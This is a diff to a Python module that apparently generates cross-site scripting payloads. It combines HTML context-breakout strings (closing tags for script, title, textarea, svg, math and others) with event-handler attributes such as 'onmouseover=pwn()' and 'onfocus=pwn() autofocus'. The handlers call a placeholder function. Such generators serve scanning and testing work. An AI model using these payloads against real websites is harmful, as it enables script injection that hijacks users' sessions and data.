@@ -7,16 +7,8 @@ from itertools import product
 
 # Where text may stand, and how it gets out of there.
 OUT = (
-    "",
-    '">',
-    "'>",
-    "--></script>",
-    "</title>",
-    "</textarea>",
-    "</style>",
-    "]]>",
-    "</select>",
-    "</noscript>",
+    *("", '">', "'>", "-->", "--></script>", "</title>", "</textarea>", "</style>", "]]>", "</select>"),
+    *("</noscript>", "</svg>", "</math>"),
 )
 # What runs by itself, or by the least a person does.
 RUN = (
@@ -38,7 +30,7 @@ ATTRIBUTES = tuple(
     f"{quote}{gap}{does}{gap}x={quote}"
     for quote, gap, does in product(
         ('"', "'"),
-        (" ", "/"),
+        (" ", "\t"),
         ("onmouseover=pwn()", "onfocus=pwn() autofocus", "onclick=pwn()", "onpointerenter=pwn()"),
     )
 )
